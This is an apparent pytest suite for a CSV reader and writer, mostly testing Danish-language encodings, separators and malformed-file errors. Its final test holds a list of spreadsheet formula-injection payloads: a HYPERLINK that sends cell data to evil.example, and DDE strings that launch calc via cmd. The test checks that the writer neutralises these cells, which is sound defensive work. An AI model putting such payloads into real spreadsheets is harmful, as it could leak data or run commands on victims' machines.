"""CSV as Danish Excel, LibreOffice, Google Sheets and pandas save it; the writer's safety.

Every file is written in the test, byte for byte as the tool writes it (separator,
encoding, byte order mark, line ends), and read with :func:`graphsvc.io.formats.csv.read`.
"""

from __future__ import annotations

import codecs
import csv as stdlib_csv
from pathlib import Path

import pandas as pd
import pytest

from graphsvc.errors import ValidationError
from graphsvc.io.formats import DEFAULT_LIMITS, Limits, format_for
from graphsvc.io.formats import csv as csv_format
from graphsvc.io.tables import COLUMNS, TABLES, empty_tables

DANISH = [
    ["Organisation", "Type", "Kommune", "Beløb", "Bemærkninger"],
    ["Æblehavens Boldklub", "Forening", "Ærø", "1.500,50", "Søndag; børn & unge"],
    ["Middelfart Kommune", "Kommune", "Middelfart", "", 'Citat: "Åben dør"'],
]


def _write(path: Path, rows: list[list[str]], *, separator: str, encoding: str) -> Path:
    with path.open("w", encoding=encoding, newline="") as handle:
        stdlib_csv.writer(handle, delimiter=separator, lineterminator="\r\n").writerows(rows)
    return path


def _read_one(path: Path, limits: Limits = DEFAULT_LIMITS):  # type: ignore[no-untyped-def]
    [table] = csv_format.read(path, limits)
    return table


def _problem(path: Path) -> tuple:
    with pytest.raises(ValidationError) as caught:
        csv_format.read(path)
    problem = caught.value.details[0]
    assert caught.value.message.startswith(path.name)
    return problem.file, problem.row, problem.column, problem.message


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252", "latin-1"])
def test_separators_and_encodings(tmp_path: Path, separator: str, encoding: str) -> None:
    path = _write(tmp_path / "liste.csv", DANISH, separator=separator, encoding=encoding)
    table = _read_one(path)
    assert table.columns == DANISH[0]
    assert [list(row.values()) for row in table.rows] == DANISH[1:]
    assert (table.name, table.file, table.role, table.first_row) == (
        "liste",
        "liste.csv",
        None,
        2,
    )


def test_danish_excel_bytes(tmp_path: Path) -> None:
    # What Danish Excel writes for "CSV (semikolonsepareret)" on Windows: cp1252, ;, CRLF.
    path = tmp_path / "aktører.csv"
    path.write_bytes(b"Navn;By\r\nF\xe6llesskabet;\xc5rhus\r\nS\xf8ster;K\xf8ge\r\n")
    table = _read_one(path)
    assert table.rows == [
        {"Navn": "Fællesskabet", "By": "Århus"},
        {"Navn": "Søster", "By": "Køge"},
    ]


def test_utf16_without_byte_order_mark(tmp_path: Path) -> None:
    path = tmp_path / "liste.csv"
    path.write_bytes("Navn\tBy\r\nÆble\tÅ\r\n".encode("utf-16-le"))
    assert _read_one(path).rows == [{"Navn": "Æble", "By": "Å"}]


def test_pandas_and_byte_order_mark(tmp_path: Path) -> None:
    path = tmp_path / "fra_pandas.csv"
    pd.DataFrame({"Navn": ["Ø", "Å"], "Antal": [1, 2]}).to_csv(
        path, index=False, sep=";", encoding="utf-8-sig"
    )
    assert path.read_bytes().startswith(codecs.BOM_UTF8)
    table = _read_one(path)
    assert table.columns == ["Navn", "Antal"]  # no BOM in the first name
    assert table.rows == [{"Navn": "Ø", "Antal": "1"}, {"Navn": "Å", "Antal": "2"}]


def test_blank_rows_are_skipped_with_real_row_numbers(tmp_path: Path) -> None:
    path = tmp_path / "huller.csv"
    path.write_text("\n\nNavn;Type\nA;Forening\n;\n\nB;Fond\n  ;  \nC;Skole\n", "utf-8")
    table = _read_one(path)
    assert table.header_row == 3
    assert [row["Navn"] for row in table.rows] == ["A", "B", "C"]
    assert table.row_numbers == [4, 7, 9]  # as Excel numbers the rows of this file
    assert table.first_row == 4


def test_a_headerless_list_keeps_its_first_row_as_read(tmp_path: Path) -> None:
    # A plain two-column list of names: legal input; the mapping decides that row 1 is data.
    path = tmp_path / "par.csv"
    path.write_text("Middelfart Kommune;TrygFonden\nTrygFonden;Frivilligcenter Middelfart\n")
    table = _read_one(path)
    assert table.columns == ["Middelfart Kommune", "TrygFonden"]
    assert table.header_row == 1 and table.first_row == 2
    assert table.rows == [
        {"Middelfart Kommune": "TrygFonden", "TrygFonden": "Frivilligcenter Middelfart"}
    ]


def test_trailing_separators_and_unnamed_columns(tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    path.write_text("Navn;;Type;;\nA;x;Fond;;\nB;;Skole;;;\n", "utf-8")
    table = _read_one(path)
    # The unnamed column B holds a value and is kept by its letter; E (and F) are empty.
    assert table.columns == ["Navn", "column B", "Type"]
    assert table.rows[0] == {"Navn": "A", "column B": "x", "Type": "Fond"}
    assert table.rows[1] == {"Navn": "B", "column B": "", "Type": "Skole"}


def test_quoted_cells_with_separators_and_line_breaks(tmp_path: Path) -> None:
    rows = [["Navn", "Note"], ["A; B", "linje 1\nlinje 2"], ["C", "x"]]
    path = _write(tmp_path / "q.csv", rows, separator=";", encoding="utf-8")
    table = _read_one(path)
    assert [list(r.values()) for r in table.rows] == rows[1:]
    assert table.row_numbers is None and table.first_row == 2


def test_duplicate_header_names(tmp_path: Path) -> None:
    path = tmp_path / "dubletter.csv"
    path.write_text("Navn;Partner;Partner\nA;B;C\n")
    file, row, column, message = _problem(path)
    assert (file, row, column) == ("dubletter.csv", 1, "Partner")
    assert "appears 2 times" in message


def test_rows_with_more_or_fewer_cells(tmp_path: Path) -> None:
    path = tmp_path / "skæv.csv"
    path.write_text("Navn;Type;Kommune\nA;Fond;Ærø\nB;Skole\nC;Fond;Køge;ekstra\n")
    with pytest.raises(ValidationError) as caught:
        csv_format.read(path)
    where = [(p.file, p.row, p.column) for p in caught.value.details]
    assert where == [("skæv.csv", 3, "Kommune"), ("skæv.csv", 4, "D")]
    assert "2 cell(s) but the header has 3 columns" in caught.value.details[0].message


def test_unterminated_quote(tmp_path: Path) -> None:
    path = tmp_path / "citat.csv"
    path.write_text('Navn,Note\nA,ok\nB,"aldrig lukket\nC,x\nD,y\n')
    file, row, column, message = _problem(path)
    assert (file, row, column) == ("citat.csv", 3, "B")
    assert "never closed" in message and "line 3" in message


def test_unterminated_quote_in_a_large_file(tmp_path: Path) -> None:
    path = tmp_path / "stor.csv"
    body = "".join(f"navn {i},note\n" for i in range(20_000))
    path.write_text('Navn,Note\nA,"åben\n' + body)
    file, row, column, message = _problem(path)
    assert (file, row, column) == ("stor.csv", 2, "B")
    assert "never closed" in message


def test_nul_bytes(tmp_path: Path) -> None:
    path = tmp_path / "nul.csv"
    path.write_bytes(b"Navn,Type\nA,Fond\nB\x00,Skole\n")
    file, row, column, message = _problem(path)
    assert (file, row, column) == ("nul.csv", 3, "A")
    assert "NUL" in message


def test_limits(tmp_path: Path) -> None:
    path = tmp_path / "mange.csv"
    path.write_text("Navn\n" + "".join(f"a{i}\n" for i in range(11)))
    with pytest.raises(ValidationError, match="more than 10 rows"):
        csv_format.read(path, Limits(max_rows=10))
    assert len(_read_one(path, Limits(max_rows=11)).rows) == 11
    with pytest.raises(ValidationError, match=r"mange\.csv: the file is"):
        csv_format.read(path, Limits(max_file_bytes=10))
    wide = tmp_path / "bred.csv"
    wide.write_text(",".join(f"k{i}" for i in range(6)) + "\n")
    with pytest.raises(ValidationError, match="6 columns; the limit is 5"):
        csv_format.read(wide, Limits(max_columns=5))


def test_an_empty_file_is_an_empty_table(tmp_path: Path) -> None:
    path = tmp_path / "tom.csv"
    path.write_bytes(b"")
    table = _read_one(path)
    assert (table.columns, table.rows) == ([], [])


def test_registered_by_suffix() -> None:
    assert format_for(Path("a.CSV")) is csv_format
    assert format_for(Path("a.tsv")) is csv_format


# ---------------------------------------------------------------- writer

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+45 12 34 56 78 =1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=allerede med apostrof",
    "''+to apostroffer",
    "Almindelig 'tekst'",
    "-5",
    "+45",
    "=",
]


def test_formula_cells_are_neutralised_and_read_back_exactly(tmp_path: Path) -> None:
    tables = empty_tables()
    actors = pd.DataFrame(
        [{column: None for column in COLUMNS["actors"]} | {"id": f"a{i}", "name": name}
         for i, name in enumerate(HOSTILE)],
        columns=COLUMNS["actors"],
    )  # fmt: skip
    tables["actors"] = actors
    written = csv_format.write(tables, tmp_path / "ud")
    # the agreements table is written only when it has rows (a graph without any is as before)
    assert [p.name for p in written] == [f"{name}.csv" for name in TABLES if name != "agreements"]
    with (tmp_path / "ud" / "actors.csv").open(encoding="utf-8", newline="") as handle:
        raw = [row[1] for row in stdlib_csv.reader(handle)][1:]
    for cell, name in zip(raw, HOSTILE, strict=True):
        # OWASP: what a spreadsheet would evaluate starts with an apostrophe in the file.
        risky = name.lstrip("'")[:1] in set("=+-@\t\r") and name not in ("-5", "+45")
        assert cell == ("'" + name if risky else name), name
    table = _read_one(tmp_path / "ud" / "actors.csv")
    assert [row["name"] for row in table.rows] == HOSTILE
